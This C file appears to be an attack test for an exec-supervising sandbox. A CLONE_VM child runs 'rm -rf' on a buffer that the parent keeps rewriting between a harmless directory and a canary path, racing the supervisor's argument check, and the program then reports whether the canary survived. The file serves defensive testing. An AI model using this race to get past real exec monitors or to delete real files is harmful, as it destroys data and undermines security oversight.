// attack: race: a CLONE_VM child execs `rm -rf BUF` while the parent, sharing its memory, rewrites BUF between a harmless path and $CANARY
// stopped by: sign-off(exec)
// No thread of the exec'ing process touches argv: the writer is another process (raw clone with
// CLONE_VM), so a check that only looks at the caller's threads would miss it.
#define _GNU_SOURCE
#include "attack.h"
#include <sched.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/wait.h>

extern char **environ;
static char buf[4096];
static char harmless[4096], target[4096];
static char *args[4];

static int child(void *arg) {
    (void)arg;
    syscall(SYS_execve, "/bin/rm", args, environ);
    syscall(SYS_exit, 100 + (errno & 127));
    return 0;
}

int main(void) {
    const char *canary = getenv("CANARY");
    if (!canary) { fprintf(stderr, "CANARY not set\n"); return 2; }
    snprintf(target, sizeof target, "%s", canary);
    snprintf(harmless, sizeof harmless, "race-harmless-dir-padded-to-be-as-long-as-the-canary-path-%0*d",
             (int)(strlen(canary) > 60 ? strlen(canary) - 60 : 1), 0);
    args[0] = "rm"; args[1] = "-rf"; args[2] = buf; args[3] = NULL;
    char *stack = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_STACK, -1, 0);
    int rounds = 0, killed = 0, codes[256] = {0};
    struct stat st;
    double deadline = now() + 6.0;
    while (now() < deadline && lstat(canary, &st) == 0) {
        mkdir(harmless, 0755);
        strcpy(buf, harmless);
        fflush(stdout);
        pid_t pid = clone(child, stack + (1 << 20), CLONE_VM | SIGCHLD, NULL);
        if (pid < 0) { perror("clone(CLONE_VM)"); return 1; }
        int status;
        for (;;) {
            // Each value stays a while, so that bare the kernel copies the target about half the
            // time (the attack must be able to do damage), and under airlock the supervisor reads
            // either value.
            strcpy(buf, target);
            for (volatile int spin = 0; spin < 2000; spin++) {}
            strcpy(buf, harmless);
            for (volatile int spin = 0; spin < 2000; spin++) {}
            if (waitpid(pid, &status, WNOHANG) == pid) break;
        }
        rounds++;
        if (WIFSIGNALED(status)) killed++; else codes[WEXITSTATUS(status) & 255]++;
    }
    printf("%d rounds of a CLONE_VM child exec'ing rm with a rewritten argv; %d killed by a signal\n", rounds, killed);
    for (int s = 0; s < 256; s++) if (codes[s]) printf("  exit %d%s: %d\n", s, s >= 100 ? " (execve failed)" : "", codes[s]);
    printf("canary %s: %s\n", canary, lstat(canary, &st) == 0 ? "still there" : "GONE");
    return 0;
}
